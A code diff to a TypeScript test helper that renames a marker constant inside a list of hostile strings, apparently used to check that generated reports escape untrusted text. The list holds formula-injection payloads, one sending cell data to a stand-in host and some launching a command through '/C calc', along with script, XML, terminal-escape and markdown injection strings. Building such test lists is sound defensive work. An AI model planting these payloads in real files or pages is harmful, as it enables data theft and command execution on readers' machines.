@@ -7,24 +7,24 @@ import { A_RUN, aFinding, aLogGroup, anOutcome, aReport, aStep } from '../suppor
 import { aLogGroupVerdict, outcomeTotals, planTotals, scanTotals, written } from './builders.ts';
 
 /** Is in every hostile text, so that what is left of one can be found. */
-export const MARK = 'EVIL';
+export const TRACE = 'EVIL';
 
 /** Texts that do harm where a document takes them for more than text. None of them is a name that AWS allows. */
 export const HOSTILE_TEXTS: readonly string[] = [
-  `=HYPERLINK("https://${MARK}.example/?"&A1,"${MARK}")`,
+  `=HYPERLINK("https://${TRACE}.example/?"&A1,"${TRACE}")`,
   ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', 'x;=', 'x; @'].map(
-    (start) => `${start}${MARK}|'/C calc'!A0`,
+    (start) => `${start}${TRACE}|'/C calc'!A0`,
   ),
-  `<script>${MARK}</script><img src=x onerror=${MARK}>`,
-  `"' onload='${MARK}' x="</failure></testcase>]]><![CDATA[${MARK}]]>&${MARK};&#0;`,
-  `\u001b[31m${MARK}\u001b]8;;https://${MARK}\u0007\u009b2J\u0000\u0008\u007f`,
-  `\u202e${MARK}\u2066\u200b\ufeff\u2028\u2029`,
-  `\ud800${MARK}\udc00\ufffe\uffff`,
-  `\`${MARK}\` | **${MARK}** | [${MARK}](https://${MARK}) ![${MARK}](https://${MARK}/x.png) ~~${MARK}~~ $${MARK}$ \\| \\\``,
-  `\`\`\`\n# ${MARK}\n\n- [ ] @${MARK} #1 https://${MARK}.example www.${MARK}.example me@${MARK}.example\n\`\`\`\`\`mermaid\n${MARK}`,
-  `{0} {{${MARK}}} [${MARK}](0) %s \${${MARK}}`,
-  `${MARK}${'/x'.repeat(254)}`,
-  `${MARK}${'😀'.repeat(2_000)}`,
+  `<script>${TRACE}</script><img src=x onerror=${TRACE}>`,
+  `"' onload='${TRACE}' x="</failure></testcase>]]><![CDATA[${TRACE}]]>&${TRACE};&#0;`,
+  `\u001b[31m${TRACE}\u001b]8;;https://${TRACE}\u0007\u009b2J\u0000\u0008\u007f`,
+  `\u202e${TRACE}\u2066\u200b\ufeff\u2028\u2029`,
+  `\ud800${TRACE}\udc00\ufffe\uffff`,
+  `\`${TRACE}\` | **${TRACE}** | [${TRACE}](https://${TRACE}) ![${TRACE}](https://${TRACE}/x.png) ~~${TRACE}~~ $${TRACE}$ \\| \\\``,
+  `\`\`\`\n# ${TRACE}\n\n- [ ] @${TRACE} #1 https://${TRACE}.example www.${TRACE}.example me@${TRACE}.example\n\`\`\`\`\`mermaid\n${TRACE}`,
+  `{0} {{${TRACE}}} [${TRACE}](0) %s \${${TRACE}}`,
+  `${TRACE}${'/x'.repeat(254)}`,
+  `${TRACE}${'😀'.repeat(2_000)}`,
 ];
 
 /** Documents that have a hostile text wherever a text comes from outside, by what they are called. */
